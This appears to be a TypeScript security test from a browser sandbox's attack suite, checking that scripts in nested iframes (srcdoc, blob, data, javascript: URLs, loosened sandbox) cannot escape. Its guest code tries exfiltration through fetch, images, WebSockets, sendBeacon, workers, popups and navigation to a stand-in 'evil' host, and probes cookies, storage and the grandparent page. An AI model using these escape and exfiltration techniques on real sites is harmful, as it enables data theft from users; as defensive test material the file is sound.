import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';
import { holds, same } from '../expect.ts';
import { ownNonce } from '../own-nonce.ts';

/** What runs in the nested document: it tries every way out and tells how far it got. */
const code = (evil: string, name: string): string => `
  const at = (how) => '${evil}/5/${name}-' + how;
  const tried = [];
  const attempt = (how, go) => { try { go(); tried.push(how); } catch (error) { tried.push(how + ' ' + error.name); } };
  attempt('fetch', () => fetch(at('fetch'), { mode: 'no-cors' }).catch(() => 0));
  attempt('image', () => { new Image().src = at('image'); });
  attempt('socket', () => new WebSocket(at('socket').replace('http', 'ws')));
  attempt('beacon', () => navigator.sendBeacon(at('beacon'), 'secret'));
  attempt('window', () => { window.open(at('window')); });
  attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + at('worker') + '")']))));
  attempt('storage', () => localStorage.length);
  attempt('cookie', () => document.cookie);
  attempt('hand-over', () => { if (!window[Symbol.for('portico.hand-over')]) throw new TypeError('none'); });
  attempt('grandparent', () => parent.parent.document.body);
  parent.postMessage({ nested: '${name}', tried }, '*');
  location.href = at('navigate');`;

export const attack: Attack = {
  id: '5',
  group: 'escape',
  atOrigin: {
    because:
      'a nested document shares the site’s origin, so it is reached directly; an inline script does not run in it',
    expected: '0 hits: a fresh realm of the same origin is held by the same rules',
    async guest({ evil, pause }): Promise<JsonValue> {
      const at = (how: string): string => `${evil}/5/origin-${how}`;
      const tried: string[] = [];
      for (const name of ['srcdoc', 'about', 'blob']) {
        const frame = document.createElement('iframe');
        if (name === 'srcdoc') frame.srcdoc = `<p>x<script>${code(evil, name)}</script>`;
        if (name === 'blob') frame.src = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }));
        frame.setAttribute('csp', 'default-src *');
        document.body.append(frame);
        await pause(300);
        try {
          const realm = frame.contentWindow as (Window & typeof globalThis) | null;
          if (!realm) continue;
          void realm.fetch(at(`${name}-fetch`), { mode: 'no-cors' }).catch(() => 0);
          new realm.Image().src = at(`${name}-image`);
          new realm.WebSocket(at(`${name}-socket`).replace('http', 'ws'));
          realm.navigator.sendBeacon(at(`${name}-beacon`), 'secret');
          realm.document.body.append(
            Object.assign(realm.document.createElement('script'), { src: at(`${name}-script`) }),
          );
          realm.document.head.append(
            Object.assign(realm.document.createElement('meta'), {
              httpEquiv: 'refresh',
              content: `0;url=${at('refresh')}`,
            }),
          );
          tried.push(name);
          realm.location.href = at(`${name}-navigate`);
        } catch (error) {
          tried.push(`${name} ${error instanceof Error || error instanceof DOMException ? error.name : 'threw'}`);
        }
      }
      await pause(700);
      return tried;
    },
    judge({ report }) {
      holds(Array.isArray(report) && report.length > 0, `no nested realm was had: ${JSON.stringify(report)}`);
    },
  },
  title: 'run code in nested srcdoc, blob and data documents, which have functions and a sandbox of their own',
  expected: 'a nested document is held by the same rules: no storage, no port, no way out',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }): Promise<JsonValue> {
    const told: Record<string, JsonValue> = {};
    addEventListener('message', ({ data }) => {
      if (typeof data?.nested === 'string') told[data.nested] = data.tried;
    });
    const page = (name: string): string => `<p>x<script nonce="${ownNonce()}">${code(evil, name)}</script>`;
    const documents: Readonly<Record<string, (frame: HTMLIFrameElement, name: string) => void>> = {
      srcdoc: (frame, name) => {
        frame.srcdoc = page(name);
      },
      loosened: (frame, name) => {
        frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-top-navigation allow-popups');
        frame.setAttribute('csp', 'default-src *');
        frame.setAttribute('allow', '*');
        frame.srcdoc = page(name);
      },
      blob: (frame, name) => {
        frame.src = URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
      },
      data: (frame, name) => {
        frame.src = `data:text/html,${encodeURIComponent(page(name))}`;
      },
      script: (frame, name) => {
        frame.src = `javascript:${JSON.stringify(page(name))}`;
      },
    };
    for (const [name, make] of Object.entries(documents)) {
      const frame = document.createElement('iframe');
      make(frame, name);
      document.body.append(frame);
    }
    await pause(1000);
    return told;
  },
  judge({ report }) {
    const told = (report ?? {}) as Readonly<Record<string, readonly string[]>>;
    holds(told.srcdoc !== undefined, `no nested code ran, so nothing was tried: ${JSON.stringify(report)}`);
    for (const [name, tried] of Object.entries(told)) {
      const reached = tried.filter((how) => ['storage', 'cookie', 'hand-over', 'grandparent'].includes(how));
      same(reached, [], `what ${name} reached`);
    }
  },
};
